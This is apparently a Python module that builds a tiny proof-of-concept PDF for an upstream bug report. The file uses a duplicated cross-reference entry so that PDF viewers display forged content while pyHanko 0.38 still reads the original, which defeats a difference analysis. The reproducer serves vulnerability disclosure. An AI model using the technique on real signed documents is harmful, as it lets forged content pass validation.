"""A reduced, self-contained recipe of item 1 for an upstream report (no docgen, no signature).

:func:`minimal_duplicate_xref_pdf` writes a one-page PDF whose content stream (object 4) shows
``ORIGINAL``, then one incremental update whose cross-reference table lists object 4 twice: the
first row points at a new object 4 that shows ``FORGED``, the second back at the original.
Viewers (poppler, pdf.js, Acrobat) keep the first row of a section and show FORGED; pyHanko 0.38
keeps the last and reads ORIGINAL, even with ``strict=True``, so a difference analysis over it
compares the original with itself. The file is a few hundred bytes; only the standard library is
needed to write it.
"""

from __future__ import annotations

__all__ = ["CONTENT", "minimal_duplicate_xref_pdf"]

CONTENT = 4
"""The object listed twice."""


def _stream(text: bytes) -> bytes:
    data = b"BT /F1 36 Tf 72 700 Td (" + text + b") Tj ET"
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


def minimal_duplicate_xref_pdf() -> bytes:
    """The tiny PDF and its update, as bytes."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(b"ORIGINAL"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    first_xref = len(out)
    out += b"xref\n0 6\n0000000000 65535 f\r\n"
    out += b"".join(b"%010d 00000 n\r\n" % offset for offset in offsets)
    out += b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % first_xref
    # the update: a forged object 4, and a section listing 4 twice (forgery first)
    forged = len(out)
    out += b"4 0 obj\n%s\nendobj\n" % _stream(b"FORGED")
    second_xref = len(out)
    out += b"xref\n4 1\n%010d 00000 n\r\n4 1\n%010d 00000 n\r\n" % (forged, offsets[CONTENT - 1])
    out += b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        first_xref,
        second_xref,
    )
    return bytes(out)
